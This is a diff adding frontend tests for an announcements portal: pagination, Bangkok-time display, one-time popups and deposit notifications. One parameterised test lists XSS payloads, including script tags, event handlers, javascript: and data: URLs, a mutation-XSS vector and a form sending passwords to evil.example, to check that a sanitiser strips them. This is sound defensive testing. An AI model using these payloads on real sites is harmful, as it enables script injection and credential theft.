@@ -1,0 +1,85 @@
+import type { Announcement } from '@portal/contracts';
+import { act, screen, within } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { FakeEventSource } from '../../testing/FakeEventSource';
+import { startShell } from '../../testing/start-shell';
+import { cleanHtml } from './clean-html';
+
+const announcement = (number: number, content = `<p>Body ${number}</p>`): Announcement => ({
+  id: `a${number}`,
+  type: 'PL',
+  title: { TY: `News ${number}` },
+  content: { TY: content },
+  publishedAt: new Date(Date.UTC(2026, 10, 21, 3, 0, 60 - number)).toISOString(),
+});
+const eleven = Array.from({ length: 11 }, (_, index) => announcement(index + 1));
+
+it('lists nine announcements a page and shows the chosen one with its time in Bangkok @ANN-01', async () => {
+  await startShell({
+    plan: (api) => api.answer('GET /wps/relay/announcements', { player: eleven, banners: [], popup: [], promotion: [], success: true }),
+  });
+  await userEvent.click(screen.getByRole('button', { name: 'Announcements' }));
+  const dialog = within(await screen.findByRole('dialog', { name: 'Announcements' }));
+  expect(dialog.getAllByRole('button', { name: /^News/ })).toHaveLength(9);
+  expect(dialog.getByText('Body 1')).toBeInTheDocument();
+
+  await userEvent.click(dialog.getByRole('button', { name: /^News 3/ }));
+  const detail = within(dialog.getByRole('article'));
+  expect(detail.getByRole('heading', { name: 'News 3' })).toBeInTheDocument();
+  expect(detail.getByText('2026-11-21 10:00:57')).toBeInTheDocument();
+
+  await userEvent.click(dialog.getByRole('button', { name: 'Page 2' }));
+  expect(dialog.getAllByRole('button', { name: /^News/ })).toHaveLength(2);
+  expect(dialog.getByText('Body 10')).toBeInTheDocument();
+});
+
+describe('text with markup', () => {
+  const cleaned = (html: string) => {
+    const place = document.createElement('div');
+    place.append(cleanHtml(html));
+    return place;
+  };
+
+  it.each([
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg onload=alert(1)>',
+    '<style>*{display:none}</style>',
+    '<form action="https://evil.example"><input name=password></form>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<a href="javascript:alert(1)" onclick="alert(1)" style="color:red">x</a>',
+    '<a href="//evil.example">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  ])('keeps nothing that acts or loads: %s @ANN-01', (html) => {
+    const place = cleaned(`<p>kept</p>${html}`);
+    expect(place.querySelector('script, img, svg, style, form, input, iframe, math')).toBeNull();
+    const attributes = [...place.querySelectorAll('*')].flatMap((element) => element.getAttributeNames());
+    expect(attributes).toEqual([]);
+    expect(place).toHaveTextContent('kept');
+  });
+
+  it('keeps words, lists and links, and opens foreign links apart @ANN-01', () => {
+    const place = cleaned('<p>A <b>b</b></p><ul><li>c</li></ul><a href="https://example.com/">d</a><a href="/promotions">e</a>');
+    expect(place.innerHTML).toBe(
+      '<p>A <b>b</b></p><ul><li>c</li></ul><a href="https://example.com/" target="_blank" rel="noopener noreferrer">d</a><a href="/promotions">e</a>',
+    );
+  });
+});
+
+it('shows a popup announcement once to a browser @ANN-02', async () => {
+  localStorage.removeItem('seenPopups');
+  const plan = { player: [], banners: [], popup: [announcement(7)], promotion: [], success: true };
+  await startShell({ plan: (api) => api.answer('GET /wps/relay/announcements', plan) });
+  await userEvent.click(within(await screen.findByRole('dialog', { name: 'News 7' })).getByRole('button', { name: 'Got it' }));
+  expect(screen.queryByRole('dialog')).not.toBeInTheDocument();
+  expect(localStorage.getItem('seenPopups')).toBe('["a7"]');
+});
+
+it('tells a credited deposit at once and counts it @ANN-03', async () => {
+  const api = await startShell({ signedInAs: { isAgent: 0 } });
+  api.answer('GET /wps/relay/messages/unread', { count: 1 });
+  await act(async () => FakeEventSource.opened.at(-1)?.tell('messages.created', { messageId: 'm1', kind: 'deposit_credited' }));
+  expect(await screen.findByRole('button', { name: 'Unread messages: 1' })).toBeInTheDocument();
+  expect(await screen.findByText(/deposit/i, { selector: 'h2' })).toBeInTheDocument();
+});
